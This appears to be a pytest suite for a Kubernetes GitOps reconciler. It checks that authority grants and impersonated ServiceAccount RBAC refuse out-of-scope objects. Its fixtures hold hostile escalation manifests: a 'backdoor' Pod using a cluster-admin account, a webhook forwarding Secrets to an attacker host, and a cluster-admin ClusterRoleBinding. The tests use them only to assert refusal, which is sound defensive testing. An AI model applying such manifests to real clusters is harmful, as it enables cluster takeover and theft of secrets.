"""Per-source authority set by the operator: objects outside a source's grant are refused before anything
is applied, and named in status and Events (real kube-apiserver + etcd and git server)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from handoff.kube.client import connect
from handoff.reconciler.authority import grant_of, service_account_groups, why_denied
from handoff.reconciler.config import Authority, Source
from handoff.reconciler.loop import Reconciler
from handoff.reconciler.manifests import APP, manifests
from handoff.reconciler.status import REFUSED, SUCCEEDED
from handoff.report.model import ObjectRef

from .cluster import new_cluster

pytestmark = [pytest.mark.tools, pytest.mark.slow]

CM = "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: app}}\ndata: {{rev: \"{rev}\"}}\n"
ESCALATION = """apiVersion: v1
kind: Pod
metadata: {name: backdoor, namespace: kube-system}
spec:
  serviceAccountName: cluster-admin-sa
  containers:
    - name: main
      image: registry.example/tools:1.0.0
      resources: {requests: {cpu: 100m, memory: 64Mi}, limits: {cpu: 200m, memory: 128Mi}}
---
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: steal-secrets}
webhooks:
  - name: steal.example.com
    admissionReviewVersions: [v1]
    sideEffects: None
    clientConfig: {url: "https://attacker.example/mutate"}
    rules: [{operations: [CREATE, UPDATE], apiGroups: [""], apiVersions: [v1], resources: [secrets]}]
"""


def test_escalation_objects_outside_the_grant_are_refused_and_named(apiserver: Any, git_server: Any,
                                                                    tmp_path: Path) -> None:
    c = new_cluster(apiserver, git_server, tmp_path, {"app/cm.yaml": CM.format(rev=1)})
    rec = c.reconciler(renderer="plain", authority=Authority(namespaces=(c.target_ns,)))
    source = rec.settings.sources[0]
    assert rec.reconcile(source).ok
    c.repo.commit({"app/cm.yaml": CM.format(rev=2), "app/evil.yaml": ESCALATION}, "escalate")
    refused = rec.reconcile(source)
    assert refused.result == REFUSED, refused.message
    assert "Pod/kube-system/backdoor (namespace kube-system is not granted)" in refused.message
    assert ("MutatingWebhookConfiguration/steal-secrets (cluster-scoped kind MutatingWebhookConfiguration "
            "is not granted)") in refused.message
    assert c.client.get("v1", "Pod", "backdoor", "kube-system") is None
    assert c.client.get("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", "steal-secrets") is None
    cm = c.get("v1", "ConfigMap", "app")
    assert cm is not None and cm["data"]["rev"] == "1"  # nothing of the revision applied
    assert "backdoor" in c.status()["message"] and c.status()["result"] == REFUSED
    events = list(c.client.list("v1", "Event", namespace=c.control_ns))
    assert any("steal-secrets" in e.get("message", "") and e["type"] == "Warning" for e in events)

    c.repo.commit({"app/evil.yaml": None, "app/cm.yaml": CM.format(rev=3)}, "revert")
    fixed = rec.reconcile(source)
    assert fixed.result == SUCCEEDED, fixed.message
    cm = c.get("v1", "ConfigMap", "app")
    assert cm is not None and cm["data"]["rev"] == "3"


def test_what_a_grant_allows() -> None:
    grant = Authority(namespaces=("team-a", "team-a-*"), denied_namespaces=("team-a-secret",),
                      kinds=("apps/Deployment", "Service", "/ConfigMap"), denied_kinds=("Secret",),
                      cluster_kinds=("Namespace",))

    def why(api: str, kind: str, name: str, ns: str = "") -> str:
        return why_denied(ObjectRef(api, kind, name, ns), grant)

    assert why("apps/v1", "Deployment", "web", "team-a") == ""
    assert why("v1", "ConfigMap", "c", "team-a-dev") == ""
    assert why("v1", "Namespace", "team-a-dev") == ""
    assert why("v1", "ConfigMap", "c", "team-b") == "namespace team-b is not granted"
    assert why("v1", "ConfigMap", "c", "team-a-secret") == "namespace team-a-secret is denied"
    assert why("other.example/v1", "ConfigMap", "c", "team-a") == "kind ConfigMap is not granted"
    assert why("v1", "Secret", "s", "team-a") == "kind Secret is denied"
    assert why("rbac.authorization.k8s.io/v1", "ClusterRoleBinding", "x") == \
        "cluster-scoped kind ClusterRoleBinding is not granted"


def test_a_source_impersonating_a_service_account_is_bounded_by_its_rbac(apiserver: Any, git_server: Any,
                                                                        tmp_path: Path) -> None:
    c = new_cluster(apiserver, git_server, tmp_path, {"app/cm.yaml": CM.format(rev=1)})
    rbac = "rbac.authorization.k8s.io/v1"
    c.client.apply({"apiVersion": "v1", "kind": "ServiceAccount",
                    "metadata": {"name": "deployer", "namespace": c.target_ns}})
    c.client.apply({"apiVersion": rbac, "kind": "Role", "metadata": {"name": "deployer", "namespace": c.target_ns},
                    "rules": [{"apiGroups": [""], "resources": ["configmaps"],
                               "verbs": ["get", "list", "create", "update", "patch", "delete"]}]})
    c.client.apply({"apiVersion": rbac, "kind": "RoleBinding",
                    "metadata": {"name": "deployer", "namespace": c.target_ns},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "deployer"},
                    "subjects": [{"kind": "ServiceAccount", "name": "deployer", "namespace": c.target_ns}]})
    # every namespace granted: only the ServiceAccount's RBAC bounds this source
    rec = c.reconciler(renderer="plain", service_account="deployer", authority=Authority())
    source = rec.settings.sources[0]
    first = rec.reconcile(source)
    assert first.ok, first.message
    cm = c.get("v1", "ConfigMap", "app")
    assert cm is not None and [m["manager"] for m in cm["metadata"]["managedFields"]] == ["handoff"]

    elsewhere = CM.format(rev=2).replace("metadata: {name: app}", "metadata: {name: app, namespace: default}")
    c.repo.commit({"app/cm.yaml": CM.format(rev=2), "app/other.yaml": elsewhere}, "reach outside the grant")
    result = rec.reconcile(source)
    assert result.result == "Failed" and "forbidden" in result.message, result.message
    assert "system:serviceaccount:" + c.target_ns + ":deployer" in result.message
    cm = c.get("v1", "ConfigMap", "app")
    assert cm is not None and cm["data"]["rev"] == "1"  # refused by RBAC in preflight: nothing applied
    assert c.client.get("v1", "ConfigMap", "app", "default") is None


CLUSTER_ADMIN_BINDING = """apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: take-over}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: default, namespace: kube-system}]
"""


def test_without_an_authority_block_a_source_gets_only_its_own_namespace(apiserver: Any, git_server: Any,
                                                                        tmp_path: Path) -> None:
    """The reconciler's admin identity (the harness's, as a ``*/*`` install) allows everything; the default
    grant still refuses the escalation objects, each named with its reason, and applies nothing."""
    c = new_cluster(apiserver, git_server, tmp_path, {"app/cm.yaml": CM.format(rev=1)})
    rec = c.reconciler(renderer="plain")  # no authority:
    source = rec.settings.sources[0]
    assert rec.reconcile(source).ok
    c.repo.commit({"app/cm.yaml": CM.format(rev=2), "app/evil.yaml": ESCALATION,
                   "app/crb.yaml": CLUSTER_ADMIN_BINDING}, "escalate without a grant in the way")
    refused = rec.reconcile(source)
    assert refused.result == REFUSED, refused.message
    for named in ("Pod/kube-system/backdoor (namespace kube-system is not granted)",
                  "MutatingWebhookConfiguration/steal-secrets (cluster-scoped kind MutatingWebhookConfiguration "
                  "is not granted)",
                  "ClusterRoleBinding/take-over (cluster-scoped kind ClusterRoleBinding is not granted)"):
        assert named in refused.message
        assert named in c.status()["message"]
    assert c.client.get("v1", "Pod", "backdoor", "kube-system") is None
    assert c.client.get("rbac.authorization.k8s.io/v1", "ClusterRoleBinding", "take-over") is None
    cm = c.get("v1", "ConfigMap", "app")
    assert cm is not None and cm["data"]["rev"] == "1"
    events = list(c.client.list("v1", "Event", namespace=c.control_ns))
    assert any("take-over" in e.get("message", "") and e["type"] == "Warning" for e in events)


def test_the_default_grant_is_the_sources_namespace_and_that_namespace_object() -> None:
    source = Source(name="team-a", url="https://git.example.com/c.git", namespace="team-a")
    grant = grant_of(source)

    def why(api: str, kind: str, name: str, ns: str = "") -> str:
        return why_denied(ObjectRef(api, kind, name, ns), grant)

    assert why("apps/v1", "Deployment", "web", "team-a") == ""
    assert why("rbac.authorization.k8s.io/v1", "RoleBinding", "r", "team-a") == ""
    assert why("v1", "Namespace", "team-a") == ""  # its own target namespace, created on first use
    assert why("v1", "Namespace", "team-b") == "cluster-scoped kind Namespace is not granted"
    assert why("v1", "ConfigMap", "c", "team-b") == "namespace team-b is not granted"
    assert why("apiextensions.k8s.io/v1", "CustomResourceDefinition", "x.example.com") == \
        "cluster-scoped kind CustomResourceDefinition is not granted"
    explicit = Source(name="team-a", url="https://git.example.com/c.git", namespace="team-a",
                      authority=Authority(namespaces=("team-a",)))
    assert why_denied(ObjectRef("v1", "Namespace", "team-a"), grant_of(explicit)) == \
        "cluster-scoped kind Namespace is not granted"  # an explicit grant lists what it means


def test_impersonation_carries_the_service_account_groups(apiserver: Any, git_server: Any,
                                                         tmp_path: Path) -> None:
    """RBAC bound to the group ``system:serviceaccounts:NS`` applies to the impersonated ServiceAccount;
    without that binding the API server's 403 is named in status and nothing is applied."""
    c = new_cluster(apiserver, git_server, tmp_path, {"app/cm.yaml": CM.format(rev=1)})
    source = c.source(renderer="plain", service_account="deployer")
    assert service_account_groups(source) == ("system:serviceaccounts", f"system:serviceaccounts:{c.target_ns}",
                                              "system:authenticated")
    rbac = "rbac.authorization.k8s.io/v1"
    c.client.apply({"apiVersion": "v1", "kind": "ServiceAccount",
                    "metadata": {"name": "deployer", "namespace": c.target_ns}})
    c.client.apply({"apiVersion": rbac, "kind": "Role", "metadata": {"name": "apply-cm", "namespace": c.target_ns},
                    "rules": [{"apiGroups": [""], "resources": ["configmaps"],
                               "verbs": ["get", "list", "create", "update", "patch", "delete"]}]})
    rec = c.reconciler(renderer="plain", service_account="deployer")
    refused = rec.reconcile(rec.settings.sources[0])
    assert refused.result == "Failed" and "403" in refused.message and "forbidden" in refused.message
    assert f"system:serviceaccount:{c.target_ns}:deployer" in c.status()["message"]
    assert c.get("v1", "ConfigMap", "app") is None
    c.client.apply({"apiVersion": rbac, "kind": "RoleBinding",
                    "metadata": {"name": "team-group", "namespace": c.target_ns},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "apply-cm"},
                    "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group",
                                  "name": f"system:serviceaccounts:{c.target_ns}"}]})
    applied = rec.reconcile(rec.settings.sources[0])
    assert applied.ok, applied.message
    cm = c.get("v1", "ConfigMap", "app")
    assert cm is not None and cm["data"]["rev"] == "1"


def test_the_install_manifests_grant_impersonating_exactly_the_named_service_account(
        apiserver: Any, git_server: Any, tmp_path: Path) -> None:
    """The reconciler running with only the RBAC ``reconciler manifests --impersonate NS/NAME`` prints
    impersonates that ServiceAccount with its groups; another ServiceAccount it may not impersonate."""
    c = new_cluster(apiserver, git_server, tmp_path, {"app/cm.yaml": CM.format(rev=1)})
    sa = f"{c.target_ns}/deployer"
    printed = [obj for obj in manifests(c.control_ns, impersonate=(sa,))
               if obj["kind"] in ("ServiceAccount", "Role", "RoleBinding", "ClusterRole", "ClusterRoleBinding")]
    for obj in printed:
        c.client.apply(obj)
    try:
        _reconcile_with_the_printed_rbac(apiserver, c, tmp_path)
    finally:  # cluster-scoped names are shared by every test on this apiserver
        for obj in printed:
            if obj["kind"].startswith("Cluster"):
                c.client.delete(obj["apiVersion"], obj["kind"], obj["metadata"]["name"])


def _reconcile_with_the_printed_rbac(apiserver: Any, c: Any, tmp_path: Path) -> None:
    rbac = "rbac.authorization.k8s.io/v1"
    c.client.apply({"apiVersion": "v1", "kind": "ServiceAccount",
                    "metadata": {"name": "deployer", "namespace": c.target_ns}})
    c.client.apply({"apiVersion": rbac, "kind": "Role", "metadata": {"name": "apply-cm", "namespace": c.target_ns},
                    "rules": [{"apiGroups": [""], "resources": ["configmaps"],
                               "verbs": ["get", "list", "create", "update", "patch", "delete"]}]})
    c.client.apply({"apiVersion": rbac, "kind": "RoleBinding",
                    "metadata": {"name": "team-group", "namespace": c.target_ns},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "apply-cm"},
                    "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group",
                                  "name": f"system:serviceaccounts:{c.target_ns}"}]})
    answer = c.client.request(
        "POST", f"/api/v1/namespaces/{c.control_ns}/serviceaccounts/{APP}/token",
        body={"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 3600}})
    config = yaml.safe_load(Path(apiserver.kubeconfig).read_text())
    config["users"][0]["user"] = {"token": str(answer["status"]["token"])}
    kubeconfig = tmp_path / "reconciler.kubeconfig"
    kubeconfig.write_text(yaml.safe_dump(config))
    as_reconciler = connect(kubeconfig)
    rec = Reconciler(c.settings(renderer="plain", service_account="deployer"), as_reconciler, c.workdir)
    applied = rec.reconcile(rec.settings.sources[0])
    assert applied.ok, applied.message
    other = Reconciler(c.settings(renderer="plain", service_account="someone-else"), as_reconciler,
                       tmp_path / "other")
    refused = other.reconcile(other.settings.sources[0])
    assert refused.result == "Failed" and "403" in refused.message and "impersonate" in refused.message, \
        refused.message
